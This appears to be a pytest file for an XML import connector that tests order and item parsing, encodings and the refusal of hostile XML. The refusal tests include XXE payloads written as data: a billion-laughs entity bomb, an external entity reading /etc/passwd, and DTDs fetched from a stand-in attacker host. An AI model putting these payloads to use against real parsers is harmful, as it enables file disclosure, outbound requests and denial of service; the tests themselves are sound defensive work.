"""XML: records, their items, and attacks that are refused."""

import pytest

from app.connectors.files.detection import open_file
from app.connectors.files.settings import Layout
from app.core.errors import ConfigError
from app.core.records import Kind, Unreadable
from tests.connectors.files.conftest import ReadFile, WriteFile, request_for, settings_for, source_for

ORDERS = """<?xml version="1.0" encoding="UTF-8"?>
<shop xmlns="https://shop.example/ns">
  <order id="R-1">
    <date>2026-01-31T10:00:00</date>
    <customer><id>7</id><email>Anna@Example.com</email></customer>
    <items>
      <item><sku>00017</sku><description>Cup &amp; saucer</description><quantity>2</quantity><price>2.50</price></item>
      <item><sku>B</sku><description>Mug</description><quantity>1</quantity><price>1.00</price></item>
    </items>
  </order>
  <order id="R-2">
    <date>2026-02-01</date>
    <customer><id>8</id><email/></customer>
    <items><item><sku>B</sku><description>Mug</description><quantity>one</quantity><price>1</price></item></items>
  </order>
</shop>
"""


async def test_items_of_an_order_become_its_lines(read: ReadFile) -> None:
    order, broken = await read(ORDERS, name="orders.xml")
    assert (order.number, order.customer_id, order.email) == ("R-1", "7", "anna@example.com")
    assert [(line.sku, line.name) for line in order.lines] == [("00017", "Cup & saucer"), ("B", "Mug")]
    assert str(order.total) == "6.00 EUR"
    assert isinstance(broken, Unreadable)
    assert broken.where == "line 14"


def test_record_element_and_columns_are_recognised(write: WriteFile) -> None:
    opened = open_file(settings_for(write(ORDERS, "orders.xml")))
    assert opened.detected.traits.record_element == "order"
    assert opened.detected.columns.layout is Layout.LINE_ITEMS
    assert opened.table.headings[:3] == ("order/@id", "order/date", "order/customer/id")


async def test_a_chosen_element_is_the_record(write: WriteFile) -> None:
    content = "<x><a><v>1</v></a><a><v>2</v></a><p><sku>A</sku><name>Cup</name></p></x>"
    source = source_for(write(content, "x.xml"), record_element="p")
    assert await source.count(request_for(Kind.PRODUCTS)) == 1


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-2", "cp1250"])
async def test_the_declared_character_set_is_used(read: ReadFile, encoding: str) -> None:
    name = {"cp1250": "windows-1250"}.get(encoding, encoding)
    content = f'<?xml version="1.0" encoding="{name}"?><c><p><email>a@x.pl</email><city>Łódź</city></p></c>'
    (contact,) = await read(content.encode(encoding), Kind.CONTACTS, name="c.xml")
    assert contact.address.city == "Łódź"


BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "declaration",
    [
        f'<!DOCTYPE c [<!ENTITY l0 "ha">{BOMB}]>',
        '<!DOCTYPE c [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE c [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd">]>',
        '<!DOCTYPE c [<!ENTITY big "' + "x" * 1000 + '">]>',
    ],
)
def test_entities_are_refused_before_they_are_expanded(write: WriteFile, declaration: str) -> None:
    content = f'<?xml version="1.0"?>{declaration}<c><p><email>&l9;&secret;&big;</email></p></c>'
    with pytest.raises(ConfigError) as caught:
        open_file(settings_for(write(content, "c.xml")))
    assert caught.value.field == "path"
    assert "entities" in str(caught.value)


def test_an_external_document_type_is_not_fetched(write: WriteFile) -> None:
    content = '<!DOCTYPE c SYSTEM "http://attacker.invalid/c.dtd"><c><p><email>a@x.pl</email></p></c>'
    try:
        opened = open_file(settings_for(write(content, "c.xml")))
    except ConfigError:
        return
    assert opened.detected.row_count == 1


def test_deep_nesting_is_refused(write: WriteFile) -> None:
    content = "<c>" + "<p>" * 500 + "</p>" * 500 + "</c>"
    with pytest.raises(ConfigError) as caught:
        open_file(settings_for(write(content, "c.xml")))
    assert "deeply" in str(caught.value)


def test_xml_that_breaks_off_is_refused_before_anything_is_sent(write: WriteFile) -> None:
    content = "<c>\n" + "<p><email>a@x.pl</email></p>\n" * 300 + "<p><email>b@x.pl</email>"
    with pytest.raises(ConfigError) as caught:
        open_file(settings_for(write(content, "c.xml")))
    assert "line 302" in str(caught.value)


def test_xml_without_records_says_which_elements_it_has(write: WriteFile) -> None:
    with pytest.raises(ConfigError) as caught:
        open_file(settings_for(write("<c><p><email>a@x.pl</email></p></c>", "c.xml"), record_element="order"))
    assert caught.value.field == "record_element"
    assert "p" in str(caught.value.remedy)
